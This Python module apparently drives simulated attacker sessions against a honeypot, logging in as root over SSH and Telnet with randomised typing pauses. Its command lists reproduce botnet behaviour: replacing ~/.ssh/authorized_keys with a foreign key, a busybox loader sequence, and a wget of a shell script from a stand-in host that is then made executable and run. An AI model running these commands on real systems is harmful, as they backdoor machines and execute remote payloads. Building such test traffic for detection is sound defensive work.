"""Programs that log in and give commands, with pauses as they please."""

from __future__ import annotations

import asyncio
import contextlib
import random
import re
import time
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import asyncssh
import paramiko
import pexpect
from attackers import HOST, Ports
from typists import PLANS

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1 mdrfckr"
MDRFCKR = (
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && cd ~',
    "cat /proc/cpuinfo | grep name | wc -l",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)", "which ls", "crontab -l", "w", "uname -m", "top", "uname", "uname -a",
    "whoami", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
)  # fmt: skip
LOADER = (
    "enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox KDVRB",
    "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox KDVRB", "tftp; wget; /bin/busybox KDVRB",
    "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s", "rm .s; exit",
)  # fmt: skip
SCRIPTS: Sequence[Sequence[str]] = (
    MDRFCKR,
    ("uname -s -v -n -r -m",),
    ("cat /proc/uptime 2 > /dev/null | cut -d. -f1", "uname -m", "nproc"),
    ("/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "echo Hi | cat -n"),
    ("cd /tmp; wget http://198.51.100.9/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh",),
    # What somebody could have typed.
    *PLANS,
)


def pauses(chance: random.Random, longest: float) -> tuple[str, Callable[[], float]]:
    """Return how long a program waits between commands: the law's name, and a draw from it."""
    law = chance.choice(("none", "fixed", "uniform", "exponential", "normal", "log-normal"))
    mean = chance.uniform(0.05, 1.0) * longest / 2
    draws: dict[str, Callable[[], float]] = {
        "none": lambda: 0.0,
        "fixed": lambda: mean,
        "uniform": lambda: chance.uniform(0, 2 * mean),
        "exponential": lambda: min(longest, chance.expovariate(1 / mean)),
        "normal": lambda: max(0.0, chance.gauss(mean, mean / 4)),
        "log-normal": lambda: min(longest, chance.lognormvariate(0, 0.8) * mean),
    }
    return law, draws[law]


Pause = Callable[[], float]


async def by_asyncssh(
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str
) -> None:
    """``exec``: a channel a command; ``shell``: without a terminal; ``pty``: with one."""
    async with asyncssh.connect(
        HOST, ports.ssh, username="root", password=password, known_hosts=None, client_keys=None,
        config=[], agent_path=None, preferred_auth="password",
    ) as connection:  # fmt: skip
        if kind == "exec":
            for line in lines:
                with contextlib.suppress(asyncio.TimeoutError, AttributeError, asyncssh.Error):
                    await asyncio.wait_for(connection.run(line), 3)
                await asyncio.sleep(pause())
            return
        options: dict[str, Any] = {"term_type": "xterm"} if kind == "pty" else {}
        process = await connection.create_process(**options)
        drain = asyncio.create_task(_drain(process))
        for line in lines:
            await asyncio.sleep(pause())
            process.stdin.write(f"{line}\n")
        await asyncio.sleep(0.3)
        drain.cancel()


async def _drain(process: Any) -> None:
    with contextlib.suppress(asyncssh.Error, asyncio.CancelledError, UnicodeDecodeError):
        while await process.stdout.read(4096):
            pass


def by_paramiko(ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str) -> None:
    """``exec`` or ``shell``, which asks for a terminal of 80x24."""
    with paramiko.SSHClient() as client:
        client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        client.connect(
            HOST, ports.ssh, "root", password, look_for_keys=False, allow_agent=False, timeout=30,
            banner_timeout=30, auth_timeout=30,
        )  # fmt: skip
        if kind == "exec":
            for line in lines:
                with contextlib.suppress(Exception):
                    _, out, _ = client.exec_command(line, timeout=3)
                    out.read()
                time.sleep(pause())
            return
        channel = client.invoke_shell()
        for line in lines:
            time.sleep(pause())
            channel.send(f"{line}\n".encode())
            if channel.recv_ready():
                channel.recv(65_536)
        time.sleep(0.3)


def by_expect(  # noqa: PLR0913, PLR0917 - who, where, what and how
    ports: Ports, password: str, lines: Sequence[str], pause: Pause, kind: str, folder: Path,
    chance: random.Random,
) -> None:  # fmt: skip
    """The real ``ssh`` driven as Expect does it.

    ``line``: whole lines; ``slow``: as its ``send -s {1 .1}``; ``human``: as its ``send -h``, with
    the Weibull law and the figures of its manual page (.1 .3 1 .05 2).
    """
    child = pexpect.spawn(
        "ssh",
        [
            *("-o", "StrictHostKeyChecking=no", "-o", f"UserKnownHostsFile={folder / 'known'}"),
            *("-o", "PubkeyAuthentication=no", "-F", "none", "-p", str(ports.ssh), f"root@{HOST}"),
        ],
        timeout=60,
    )
    child.delaybeforesend = None
    child.expect("assword: ")
    child.sendline(password)
    child.expect(re.escape("# "))
    for line in lines:
        time.sleep(pause())
        if kind == "line":
            child.send(f"{line}\r")
            continue
        for before, key in zip(" " + line, f"{line}\r", strict=True):
            child.send(key)
            if kind == "slow":
                time.sleep(0.1)
            else:
                ends = before.isalnum() and not key.isalnum()
                time.sleep(min(2, max(0.05, chance.weibullvariate(0.3 if ends else 0.1, 1))))
    time.sleep(0.3)
    child.close(force=True)


async def by_loader(ports: Ports, password: str, lines: Sequence[str], pause: Pause) -> None:
    """A Telnet loader: whole lines, on a socket."""
    reader, writer = await asyncio.open_connection(HOST, ports.telnet)
    for prompt, answer in ((b"login: ", "root"), (b"assword: ", password), (b"# ", "")):
        await asyncio.wait_for(reader.readuntil(prompt), 30)
        if answer:
            writer.write(f"{answer}\r\n".encode())
    for line in lines:
        await asyncio.sleep(pause())
        writer.write(f"{line}\r\n".encode())
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(reader.read(65_536), 0.2)
    await asyncio.sleep(0.3)
    writer.close()
